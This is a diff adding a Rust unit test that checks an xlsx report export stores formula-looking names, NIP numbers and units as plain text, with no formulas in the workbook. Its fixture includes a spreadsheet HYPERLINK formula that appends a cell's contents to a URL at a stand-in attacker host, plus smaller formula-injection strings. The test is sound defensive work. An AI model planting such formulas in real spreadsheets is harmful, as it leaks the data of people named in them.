@@ -311,6 +311,33 @@ mod tests {
         );
     }
 
+    /// In the xlsx (the CLI's report and Kelas' button both make it here) a name, NIP or
+    /// unit that looks like a formula is a plain string cell, shown exactly as typed: the
+    /// workbook holds no formula at all.
+    #[test]
+    fn xlsx_cells_that_look_like_formulas_are_strings_not_formulas() {
+        use calamine::{Data, Reader, Xlsx};
+        let content = crate::course::load(None);
+        let tr = content.catalog.translator(crate::i18n::Lang::Id);
+        let evil = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")";
+        let mut row = rows()[0].clone();
+        row.name = evil.to_owned();
+        row.nip = Some("+1-2".to_owned());
+        row.unit = Some("@SUM(A1)".to_owned());
+        let bytes = xlsx(&[row], &content.course, &tr, &TimeZone::UTC).unwrap();
+        let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
+        let name = tr.tr("report-sheet-title");
+        let range = book.worksheet_range(&name).unwrap();
+        assert_eq!(range.get((1, 0)), Some(&Data::String(evil.into())));
+        assert_eq!(range.get((1, 1)), Some(&Data::String("+1-2".into())));
+        assert_eq!(range.get((1, 2)), Some(&Data::String("@SUM(A1)".into())));
+        let formulas = book.worksheet_formula(&name).unwrap();
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "no formula in the workbook"
+        );
+    }
+
     #[test]
     fn the_xlsx_reads_back_with_text_nip_real_dates_and_a_header() {
         use calamine::{Data, Reader, Xlsx};
